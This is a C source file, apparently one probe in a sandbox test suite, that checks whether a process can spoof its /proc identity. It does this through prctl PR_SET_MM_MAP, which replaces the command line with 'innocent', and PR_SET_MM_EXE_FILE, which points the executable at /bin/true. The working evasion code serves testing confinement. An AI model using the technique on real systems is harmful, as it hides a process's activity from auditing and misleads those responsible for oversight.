/*
 * Changes what /proc tells about this process, so that its events are pinned on something innocent.
 * usage: disguise map    PR_SET_MM_MAP: another argument vector
 *        disguise exe    PR_SET_MM_EXE_FILE: another executable (CAP_SYS_RESOURCE)
 */
#include "attack.h"

#include <fcntl.h>
#include <linux/prctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>

static unsigned long field(const char *stat, int number) {
    const char *at = strrchr(stat, ')') + 1;
    for (int i = 3; i < number && at != NULL; i++)
        at = strchr(at + 1, ' ');
    return at != NULL ? strtoul(at, NULL, 10) : 0;
}

int main(int argc, char **argv) {
    if (argc != 2)
        cannot("usage: disguise map|exe");
    char stat[2048] = "";
    int fd = open("/proc/self/stat", O_RDONLY);
    if (fd < 0 || read(fd, stat, sizeof stat - 1) <= 0)
        cannot("/proc/self/stat");
    char *innocent = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    strcpy(innocent, "innocent");
    struct prctl_mm_map map = {
        .start_code = field(stat, 26), .end_code = field(stat, 27), .start_stack = field(stat, 28),
        .start_data = field(stat, 45), .end_data = field(stat, 46), .start_brk = field(stat, 47),
        .brk = (unsigned long)sbrk(0), .arg_start = (unsigned long)innocent, .arg_end = (unsigned long)innocent + 9,
        .env_start = field(stat, 50), .env_end = field(stat, 51), .exe_fd = (unsigned)-1,
    };
    if (strcmp(argv[1], "exe") == 0) {
        /* the kernel wants the old executable unmapped first; refused or not shows before that */
        if (prctl(PR_SET_MM, PR_SET_MM_EXE_FILE, open("/bin/true", O_RDONLY), 0, 0) == 0 || errno == EBUSY)
            reached("may change its executable");
        failed("PR_SET_MM_EXE_FILE");
    }
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, (unsigned long)&map, sizeof map, 0) != 0)
        failed("PR_SET_MM_MAP");
    char seen[64] = "";
    fd = open("/proc/self/cmdline", O_RDONLY);
    if (fd < 0 || read(fd, seen, sizeof seen - 1) <= 0 || strcmp(seen, "innocent") != 0)
        stopped("/proc/self/cmdline says %s", seen);
    reached("/proc/self/cmdline says %s", seen);
}
